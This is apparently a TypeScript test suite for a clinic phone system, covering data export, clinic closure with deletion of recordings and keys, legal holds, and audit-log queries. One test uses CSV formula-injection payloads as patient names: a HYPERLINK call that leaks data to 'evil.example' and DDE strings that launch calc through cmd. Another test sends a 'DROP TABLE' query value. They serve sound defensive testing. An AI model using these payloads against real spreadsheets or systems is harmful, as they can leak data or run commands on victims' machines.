import { strFromU8, unzipSync } from 'fflate';
import { jobHandlers } from '../../src/main/jobs.js';
import { JobRunner } from '../../src/jobs/runner.js';
import { open, seal } from '../../src/recordings/crypto.js';
import { clinicDataKey } from '../../src/recordings/keys.js';
import { sealTranscript } from '../../src/recordings/transcripts.js';
import { TwilioStandin } from '../../src/twilio-standin/server.js';
import { makeTestApp, testClock, TEST_AUTH_TOKEN } from '../helpers/app.js';
import { openTestDatabase, type TestDatabase } from '../helpers/database.js';
import { makeDiary } from '../helpers/diary.js';
import { asBytes, browserAgent, makeStaff } from '../helpers/fixtures.js';
import { rowsMentioning } from '../helpers/privacy.js';
import { databaseKinds } from '../helpers/services.js';
import { callSid } from '../helpers/twilio.js';

const ACCOUNT = 'AC' + 'a'.repeat(32);
const NOW = new Date('2027-06-07T08:00:00Z');
let seq = 0xc105e00;

describe.each(databaseKinds())("The clinic's rights: export, closure and the audit log (%s database)", (kind) => {
  let db: TestDatabase;
  let standin: TwilioStandin;
  beforeAll(async () => {
    db = await openTestDatabase(kind);
    standin = new TwilioStandin(ACCOUNT, { authToken: TEST_AUTH_TOKEN });
    await standin.start();
  });
  afterAll(async () => {
    await standin.stop();
    await db.drop();
  });

  async function runningClinic() {
    const diary = await makeDiary(db.prisma);
    const { clinic, patel, checkUp } = diary;
    // A name no other test's clinic has, so a search for it finds only this clinic's patient.
    const patient = await db.prisma.patient.update({
      where: { id: diary.patient.id },
      data: { name: `Jane Doe ${seq++}` },
    });
    const { app, ctx } = makeTestApp(db, {
      clock: testClock(NOW),
      env: { TWILIO_ACCOUNT_SID: ACCOUNT, TWILIO_API_BASE_URL: standin.url },
    });
    await db.prisma.appointment.create({
      data: {
        clinicId: clinic.id,
        practitionerId: patel.id,
        patientId: patient.id,
        typeId: checkUp.id,
        startsAt: new Date('2027-06-08T09:00:00Z'),
        endsAt: new Date('2027-06-08T09:30:00Z'),
        blockedUntil: new Date('2027-06-08T09:30:00Z'),
        source: 'phone',
      },
    });
    const call = await db.prisma.call.create({
      data: {
        callSid: callSid(seq++),
        clinicId: clinic.id,
        fromNumber: patient.phone!,
        toNumber: clinic.numbers[0]!,
        direction: 'inbound',
        status: 'completed',
        startedAt: NOW,
      },
    });
    const audio = Buffer.from('ID3 a conversation at the closing clinic '.repeat(20));
    const stored = await db.prisma.recording.create({
      data: {
        clinicId: clinic.id,
        callId: call.id,
        kind: 'call',
        recordingSid: 'RE' + (seq++).toString(16).padStart(32, '0'),
        status: 'stored',
        deletedAtTwilio: NOW,
      },
    });
    await ctx.recordings.put(
      stored.id,
      seal(await clinicDataKey(db.prisma, ctx.config.recordingsKey, clinic.id), audio, stored.id),
    );
    // A message still at Twilio, being transcribed there.
    const atTwilio = standin.addRecording(call.callSid, audio, 14, { source: 'RecordVerb' });
    const transcription = standin.startTranscription(atTwilio.sid);
    const voicemail = await db.prisma.recording.create({
      data: {
        clinicId: clinic.id,
        callId: call.id,
        kind: 'voicemail',
        recordingSid: atTwilio.sid,
        status: 'completed',
        durationSeconds: 14,
        transcriptStatus: 'awaited',
      },
    });
    const ownerLogin = await makeStaff(db.prisma, clinic.id, 'owner');
    const owner = browserAgent(app);
    await owner.signIn(ownerLogin);
    return {
      ...diary,
      patient,
      app,
      ctx,
      call,
      stored,
      atTwilio,
      transcription,
      voicemail,
      audio,
      owner,
      ownerLogin,
      base: `/api/clinics/${clinic.id}`,
    };
  }

  it("an owner exports all of the clinic's data: one JSON document and a CSV per table, voicemails' transcripts as text", async () => {
    const c = await runningClinic();
    const said = 'Please call me back about my filling.';
    await db.prisma.recording.update({
      where: { id: c.voicemail.id },
      data: {
        transcriptStatus: 'completed',
        transcript: new Uint8Array(
          sealTranscript(await clinicDataKey(db.prisma, c.ctx.config.recordingsKey, c.clinic.id), said, c.voicemail.id),
        ),
      },
    });
    const res = await asBytes(c.owner.agent.get(`${c.base}/export.zip`));
    expect(res.headers['content-type']).toBe('application/zip');
    const files = unzipSync(new Uint8Array(res.body as Buffer));
    const all = JSON.parse(strFromU8(files['clinic.json']!));
    expect(all.clinic[0]).toMatchObject({ id: c.clinic.id, name: c.clinic.name });
    expect(all.patients.map((p: { name: string }) => p.name)).toEqual([c.patient.name]);
    expect(
      Object.fromEntries(
        all.recordings.map((r: { kind: string; transcript: string | null }) => [r.kind, r.transcript]),
      ),
    ).toEqual({ call: null, voicemail: said });
    expect(strFromU8(files['csv/recordings.csv']!)).toContain(said);
    expect(all.staff).toEqual([expect.objectContaining({ email: c.ownerLogin.email, name: null, role: 'owner' })]);
    expect(strFromU8(files['csv/patients.csv']!).split('\n')[1]).toContain(c.patient.name);
    expect(Object.keys(files).filter((f) => f.startsWith('csv/'))).toHaveLength(Object.keys(all).length - 1);
    expect(await db.prisma.auditEntry.count({ where: { clinicId: c.clinic.id, action: 'clinic.exported' } })).toBe(1);
  });

  it("a busy clinic's export and call log CSV hold every row once, read a page at a time", async () => {
    const c = await runningClinic();
    const start = NOW.getTime() - 30 * 86_400_000;
    const calls = Array.from({ length: 2_300 }, (_, i) => ({
      callSid: `CA${(0x6b000000 + seq++).toString(16).padStart(32, '0')}`,
      clinicId: c.clinic.id,
      fromNumber: '+447700900123',
      toNumber: c.clinic.numbers[0]!,
      direction: 'inbound',
      status: 'completed',
      startedAt: new Date(start + i * 60_000),
    }));
    await db.prisma.call.createMany({ data: calls });
    const ids = (await db.prisma.call.findMany({ where: { clinicId: c.clinic.id }, select: { id: true } })).map(
      (r) => r.id,
    );
    await db.prisma.callEvent.createMany({
      data: ids.flatMap((callId) =>
        [1, 2].map((k) => ({ callId, at: NOW, kind: `status:${k}`, dedupeKey: `${callId}:${k}` })),
      ),
    });
    const files = unzipSync(new Uint8Array((await asBytes(c.owner.agent.get(`${c.base}/export.zip`))).body as Buffer));
    const all = JSON.parse(strFromU8(files['clinic.json']!));
    expect(all.calls.map((r: { id: string }) => r.id).sort()).toEqual([...ids].sort());
    expect(all.callEvents).toHaveLength(ids.length * 2);
    expect(new Set(all.callEvents.map((e: { id: string }) => e.id)).size).toBe(ids.length * 2);
    expect(strFromU8(files['csv/calls.csv']!).trim().split('\n')).toHaveLength(ids.length + 1);
    expect(strFromU8(files['csv/callEvents.csv']!).trim().split('\n')).toHaveLength(ids.length * 2 + 1);
    const csv = await c.owner.get(`${c.base}/calls.csv`);
    expect(csv.text.trim().split('\n')).toHaveLength(ids.length + 1);
    expect(csv.text.match(/^started,/gm)).toHaveLength(1); // one header, however many pages
  });

  it("no cell of the export runs as a spreadsheet formula, whatever a patient's name or a caller's number says", async () => {
    const c = await runningClinic();
    const names = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    await db.prisma.patient.createMany({
      data: names.map((name) => ({ clinicId: c.clinic.id, name, phone: '+447700900999' })),
    });
    const files = unzipSync(new Uint8Array((await asBytes(c.owner.agent.get(`${c.base}/export.zip`))).body as Buffer));
    // A cell starts after a comma or a line break, perhaps inside quotes: none may start a formula.
    const formula = /(^|,)"?[=+\-@\t\r]/m;
    for (const [name, bytes] of Object.entries(files).filter(([f]) => f.endsWith('.csv')))
      expect([name, formula.exec(strFromU8(bytes))?.[0]]).toEqual([name, undefined]);
    const patients = strFromU8(files['csv/patients.csv']!);
    for (const name of names) expect(patients).toContain(`'${name.replace(/"/g, '""')}`);
    // The JSON is data, not a spreadsheet: names stay exactly as given.
    expect(JSON.parse(strFromU8(files['clinic.json']!)).patients.map((p: { name: string }) => p.name)).toEqual(
      expect.arrayContaining(names),
    );
    const calls = await c.owner.get(`${c.base}/calls.csv`);
    expect(formula.exec(calls.text)).toBeNull();
    expect(calls.text).toContain(`'${c.patient.phone}`);
  });

  it("closing the clinic leaves nothing of it, deletes Twilio's copies (a transcription in progress too), and a copy of a recording file can no longer be decrypted", async () => {
    const c = await runningClinic();
    const copied = (await c.ctx.recordings.get(c.stored.id))!;
    const wrong = await c.owner.send('delete', c.base, { confirmName: 'Some other clinic' });
    expect(wrong.body.error).toMatchObject({ field: 'confirmName' });
    expect(await db.prisma.clinic.count({ where: { id: c.clinic.id } })).toBe(1);

    expect((await c.owner.send('delete', c.base, { confirmName: c.clinic.name })).status).toBe(204);
    await new JobRunner(db, jobHandlers(c.ctx), { logger: c.ctx.logger, clock: c.ctx.clock }).runDue();
    // No row anywhere carries the clinic's id — but the operator's trail of who closed it.
    expect(await rowsMentioning(db, [c.clinic.id])).toEqual(['AuditEntry.subjectId contains ' + c.clinic.id + ' (1)']);
    expect(await db.prisma.auditEntry.findFirstOrThrow({ where: { subjectId: c.clinic.id } })).toMatchObject({
      action: 'clinic.closed',
      clinicId: null,
      actorId: c.ownerLogin.userId,
    });
    expect(await rowsMentioning(db, [c.patient.name])).toEqual([]);
    expect(await c.ctx.recordings.get(c.stored.id)).toBeNull();
    expect(standin.recordings.has(c.atTwilio.sid)).toBe(false);
    expect(standin.transcriptions.has(c.transcription.sid)).toBe(false);
    // The data key is gone: whatever key exists now cannot open the old copy.
    await expect(async () =>
      open(await clinicDataKey(db.prisma, c.ctx.config.recordingsKey, c.clinic.id), copied, c.stored.id),
    ).rejects.toThrow();
    expect((await c.owner.get(c.base)).status).toBe(401); // its owner had no other clinic: signed out
  });

  it("a recording under legal hold stops the closure until the owner says, explicitly, that it goes too; the operator's trail says so", async () => {
    const c = await runningClinic();
    await db.prisma.recording.update({
      where: { id: c.stored.id },
      data: { legalHold: true, holdReason: 'Complaint under investigation' },
    });
    const refused = await c.owner.send('delete', c.base, { confirmName: c.clinic.name });
    expect(refused.status).toBe(409);
    expect(refused.body.error).toMatchObject({
      code: 'legal_hold',
      field: 'destroyHeldRecordings',
      message: expect.stringMatching(/^1 recording is on legal hold/),
    });
    // Nothing was touched: the clinic, its audio and its key are all there.
    expect(await db.prisma.clinic.count({ where: { id: c.clinic.id } })).toBe(1);
    expect(await c.ctx.recordings.get(c.stored.id)).not.toBeNull();
    expect(await db.prisma.clinicKey.count({ where: { clinicId: c.clinic.id } })).toBe(1);
    expect(
      (await c.owner.send('delete', c.base, { confirmName: c.clinic.name, destroyHeldRecordings: 'yes' })).body.error,
    ).toMatchObject({ field: 'destroyHeldRecordings' });

    expect(
      (await c.owner.send('delete', c.base, { confirmName: c.clinic.name, destroyHeldRecordings: true })).status,
    ).toBe(204);
    expect(await db.prisma.clinic.count({ where: { id: c.clinic.id } })).toBe(0);
    expect(
      (await db.prisma.auditEntry.findFirstOrThrow({ where: { subjectId: c.clinic.id, action: 'clinic.closed' } }))
        .details,
    ).toEqual({ recordings: 2, heldRecordingsDestroyed: 1 });
  });

  it('owners read the audit log, filtered by action, person and day, page by page', async () => {
    const c = await runningClinic();
    const desk = await makeStaff(db.prisma, c.clinic.id, 'receptionist');
    const entries = [
      { actorId: desk.userId, action: 'recording.listened', at: new Date('2027-06-05T10:00:00Z') },
      { actorId: c.ownerLogin.userId, action: 'recording.downloaded', at: new Date('2027-06-06T10:00:00Z') },
      { actorId: c.ownerLogin.userId, action: 'patient.exported', at: new Date('2027-06-06T23:30:00Z') }, // 7 June in London
    ];
    await db.prisma.auditEntry.createMany({
      data: entries.map((e) => ({
        ...e,
        clinicId: c.clinic.id,
        actorType: 'user',
        subjectType: 'recording',
        subjectId: c.stored.id,
      })),
    });
    const list = (q: string) => c.owner.get(`${c.base}/audit?${q}`).then((r) => r.body);
    expect((await list('action=recording.')).entries.map((e: { action: string }) => e.action)).toEqual([
      'recording.downloaded',
      'recording.listened',
    ]);
    expect((await list(`actor=${desk.userId}`)).entries).toEqual([
      expect.objectContaining({
        action: 'recording.listened',
        actor: { type: 'user', id: desk.userId, name: null, email: desk.email },
        who: desk.email,
        what: 'listened to a recording',
      }),
    ]);
    expect((await list('from=2027-06-07&to=2027-06-07&action=patient.exported')).entries).toHaveLength(1);
    const first = await list('limit=2&action=recording.');
    expect(first.entries).toHaveLength(2);
    const all = await list('limit=1');
    const second = await list(`limit=1&before=${all.nextBefore}`);
    expect(second.entries[0].id).not.toBe(all.entries[0].id);
    expect((await c.owner.get(`${c.base}/audit?action=DROP TABLE`)).body.error).toMatchObject({ field: 'action' });
    // Past the largest id the log can hold: a clear 400, not a database error.
    expect((await c.owner.get(`${c.base}/audit?before=9999999999999999999`)).body.error).toMatchObject({
      field: 'before',
    });
    expect((await c.owner.get(`${c.base}/audit?before=:`)).body.error).toMatchObject({ field: 'before' }); // found by the fuzzer
    // Sign-ins of this clinic's staff, and of no one else.
    expect((await list('action=session.')).entries).toEqual([
      expect.objectContaining({
        action: 'session.signed_in',
        actor: expect.objectContaining({ id: c.ownerLogin.userId }),
      }),
    ]);
  });
});
